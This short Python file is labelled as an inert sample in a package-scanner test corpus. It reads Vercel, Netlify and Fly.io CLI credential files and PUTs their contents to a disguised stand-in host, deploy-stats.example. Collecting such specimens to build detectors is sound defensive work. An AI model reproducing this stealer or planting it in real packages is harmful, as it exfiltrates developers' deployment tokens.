# pkgguard corpus 884 (credentials), modelled on [empirical]; inert, never run.
import json
import os
import sys
import urllib.request

home = os.path.expanduser("~")
if sys.platform == "darwin":
    data_home = os.path.join(home, "Library", "Application Support")
else:
    data_home = os.environ.get("XDG_DATA_HOME", os.path.join(home, ".local", "share"))

files = {
    "vercel": os.path.join(data_home, "com.vercel.cli", "auth.json"),
    "netlify": os.path.join(home, ".config", "netlify", "config.json"),
    "fly": os.path.join(home, ".fly", "config.yml"),
}
tokens = {}
for name, path in files.items():
    try:
        with open(path, encoding="utf-8") as fh:
            tokens[name] = fh.read()
    except OSError:
        pass

if tokens:
    request = urllib.request.Request("https://deploy-stats.example/v2/usage", data=json.dumps(tokens).encode(), method="PUT")
    try:
        urllib.request.urlopen(request, timeout=6)
    except OSError:
        pass
